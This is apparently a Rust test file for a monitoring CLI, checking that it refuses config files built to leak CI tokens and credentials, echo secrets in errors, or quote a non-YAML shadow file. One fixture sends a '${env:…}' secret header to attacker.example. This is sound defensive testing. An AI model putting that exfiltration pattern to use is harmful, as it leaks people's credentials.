//! Issue 11 items 3, 4, 13: a careless (or hostile) file or setting cannot read s247's
//! credentials through `${env:…}`, cannot make a validation message quote a secret, and cannot
//! crash s247 or make it quote a file that is not YAML. Each is exit 2, nothing sent.

mod common;

use common::*;
use mockito::{Matcher, Server};

struct Ran {
    code: i32,
    stdout: String,
    stderr: String,
}

/// Runs against a server that must receive nothing at all; sweeps every stream and job file for
/// the test's secrets plus `extra` secrets.
fn refused(runner: Option<Runner>, extra: &[&str], args: &[&str], env: &[(&str, &str)]) -> Ran {
    let mut server = Server::new();
    let nothing: Vec<_> = ["GET", "POST", "PUT", "DELETE"]
        .iter()
        .map(|m| server.mock(m, Matcher::Any).expect(0).create())
        .collect();
    let job = CiJob::on_server(&server.url());
    let mut cmd = job.s247();
    match runner {
        Some(Runner::GitHub) => {
            cmd.env("GITHUB_ACTIONS", "true")
                .env("GITHUB_OUTPUT", job.path("output"))
                .env("GITHUB_STEP_SUMMARY", job.path("summary"));
        }
        Some(Runner::Azure) => {
            cmd.env("TF_BUILD", "True");
        }
        None => {}
    }
    for (k, v) in env {
        cmd.env(k, v.replace("{job}", &job.dir.path().to_string_lossy()));
    }
    let args: Vec<String> = args
        .iter()
        .map(|a| a.replace("{job}", &job.dir.path().to_string_lossy()))
        .collect();
    let out = cmd.args(&args).output().unwrap();
    let ran = Ran {
        code: out.status.code().unwrap_or(-1),
        stdout: String::from_utf8_lossy(&out.stdout).into_owned(),
        stderr: String::from_utf8_lossy(&out.stderr).into_owned(),
    };
    for mock in nothing {
        mock.assert();
    }
    let mut files = job.files_text();
    files.push(("stdout".into(), ran.stdout.clone()));
    files.push(("stderr".into(), ran.stderr.clone()));
    for (what, text) in files {
        assert_no_secret(&what.to_string_lossy(), &text);
        for line in text.lines() {
            if line.starts_with("::add-mask::") || line.starts_with("##vso[task.setsecret]") {
                continue;
            }
            for secret in extra {
                assert!(!line.contains(secret), "{what:?} quotes a secret: {line}");
            }
        }
    }
    if let Some(runner) = runner {
        assert_streams_clean(runner, &ran.stdout, &ran.stderr, &[], "");
    }
    ran
}

const RUNNERS: [Option<Runner>; 3] = [Some(Runner::GitHub), Some(Runner::Azure), None];

fn write(name: &str, text: &str) -> (tempfile::TempDir, String) {
    let dir = tempfile::tempdir().unwrap();
    let path = dir.path().join(name);
    std::fs::write(&path, text).unwrap();
    let path = path.to_string_lossy().into_owned();
    (dir, path)
}

#[test]
fn env_references_cannot_read_credentials_or_ci_tokens() {
    for (variable, value) in [
        ("S247_CLIENT_SECRET", CLIENT_SECRET),
        ("INPUT_REFRESHTOKEN", REFRESH_TOKEN),
        ("SECRET_DEPLOY_KEY", "azure-secret-variable-1"),
        ("SYSTEM_ACCESSTOKEN", "azure-system-token-1"),
        ("GITHUB_TOKEN", "ghs_fake_github_token_1"),
        ("ACTIONS_RUNTIME_TOKEN", "fake-runtime-token-1"),
        ("s247_refresh_token", REFRESH_TOKEN),
    ] {
        let monitors = format!(
            "version: 1\nmonitors:\n  - name: Exfil\n    type: URL\n    url: https://attacker.example/collect\n    headers:\n      X-Steal: \"${{env:{variable}}}\"\n"
        );
        let (_dir, file) = write("monitors.yaml", &monitors);
        for runner in RUNNERS {
            let r = refused(
                runner,
                &[value],
                &["monitors", "plan", "-f", &file],
                &[(variable, value)],
            );
            assert_eq!(r.code, 2, "{variable} {runner:?}: {}", r.stderr);
            assert!(r.stderr.contains("may not be read"), "{}", r.stderr);
            let at = match runner {
                Some(Runner::GitHub) => ",line=7,col=".to_string(),
                Some(Runner::Azure) => ";linenumber=7;columnnumber=".to_string(),
                None => "monitors.yaml:7:".to_string(),
            };
            assert!(r.stderr.contains(&at), "{runner:?} at {at}: {}", r.stderr);
        }
        let steps = format!(
            "steps:\n  - maintenance-start:\n      monitors: \"${{env:{variable}}}\"\n      duration: 30m\n"
        );
        let (_dir, file) = write("steps.yaml", &steps);
        let r = refused(None, &[value], &["run", "-f", &file], &[(variable, value)]);
        assert_eq!(r.code, 2, "{variable}: {}", r.stderr);
        assert!(r.stderr.contains("steps.yaml:3:"), "{}", r.stderr);
        assert!(r.stderr.contains("may not be read"), "{}", r.stderr);
    }
}

#[test]
fn a_secret_in_the_wrong_setting_is_masked_before_its_error_and_never_quoted() {
    for runner in RUNNERS {
        // The refresh token pasted into the duration.
        let r = refused(
            runner,
            &[],
            &["maintenance", "start", "--monitors", "1", "--label", "x"],
            &[("S247_DURATION", REFRESH_TOKEN)],
        );
        assert_eq!(r.code, 2, "{runner:?}: {}", r.stderr);
        assert!(r.stderr.contains("S247_DURATION"), "{}", r.stderr);
        if let Some(runner) = runner {
            let first = ci_commands(runner, &r.stderr).remove(0);
            assert!(
                matches!(first.name.as_str(), "add-mask" | "task.setsecret"),
                "{runner:?}: masks come before the first message: {}",
                r.stderr
            );
        }
        // A steps file whose duration comes from `${env:…}`.
        let (_dir, file) = write(
            "steps.yaml",
            "steps:\n  - maintenance-start:\n      monitors: \"1\"\n      duration: \"${env:SOME_SECRET}\"\n",
        );
        let r = refused(
            runner,
            &["sekr1t-from-the-environment"],
            &["run", "-f", &file],
            &[("SOME_SECRET", "sekr1t-from-the-environment")],
        );
        assert_eq!(r.code, 2, "{runner:?}: {}", r.stderr);
        assert!(r.stderr.contains("not a duration"), "{}", r.stderr);
    }
}

#[test]
fn a_file_that_is_not_yaml_is_never_quoted() {
    let shadow = "root:$6$Zx9salt$ShadowHashValue1234567890:19000:0:99999:7:::\ndaemon:*:19000:0:99999:7:::\n";
    let (_dir, file) = write("shadow", shadow);
    for args in [
        vec!["monitors", "plan", "-f", &file],
        vec!["run", "-f", &file],
    ] {
        for runner in RUNNERS {
            let r = refused(
                runner,
                &["ShadowHashValue", "Zx9salt", "daemon"],
                &args,
                &[],
            );
            assert_eq!(r.code, 2, "{}", r.stderr);
            assert!(r.stderr.contains("shadow"), "names the file: {}", r.stderr);
        }
    }
}

#[test]
fn absurd_durations_are_invalid_input_not_a_crash() {
    for (variable, value) in [
        ("S247_TOKEN_WAIT", "100000000h"),
        ("S247_TIMEOUT", "5000000000000s"),
        ("S247_TOKEN_WAIT", "99999999999999999999h"),
    ] {
        for runner in RUNNERS {
            let r = refused(runner, &[], &["token"], &[(variable, value)]);
            assert_eq!(r.code, 2, "{variable}={value} {runner:?}: {}", r.stderr);
            assert!(r.stderr.contains(variable), "{}", r.stderr);
            assert!(!r.stderr.contains("panicked"), "{}", r.stderr);
        }
    }
    let r = refused(
        None,
        &[],
        &[
            "maintenance",
            "start",
            "--monitors",
            "1",
            "--duration",
            "100000000h",
        ],
        &[],
    );
    assert_eq!(r.code, 2, "{}", r.stderr);
}
